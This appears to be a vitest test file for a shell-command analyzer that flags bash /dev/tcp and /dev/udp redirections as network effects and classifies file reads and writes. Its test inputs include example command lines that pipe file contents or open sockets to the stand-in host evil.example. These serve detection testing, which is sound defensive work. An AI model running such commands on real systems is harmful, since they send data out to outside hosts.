import { expect, test } from "vitest";
import { analyze, fileEffects } from "../kit.js";

test.each([
  ["echo x > /dev/tcp/Evil.example/80", "evil.example"],
  ["{ cat a; } >/dev/udp/evil.example/53", "evil.example"],
  ["exec 3<>/dev/tcp/evil.example/80", "evil.example"],
  ["for h in /dev/tcp/evil.example/80; do cat < $h; done", null],
])("a socket is an effect: %s", (line, host) => {
  expect(analyze(line).effects).toContainEqual(expect.objectContaining({ kind: "network", redirect: true, host }));
});

test("files that are read, created and added to", () => {
  expect(fileEffects("sort < a > b 2>> c")).toEqual(["read /project/a", "create /project/b", "modify /project/c"]);
  expect(fileEffects("true 2>&1 >/dev/null <&3")).toEqual([]);
});
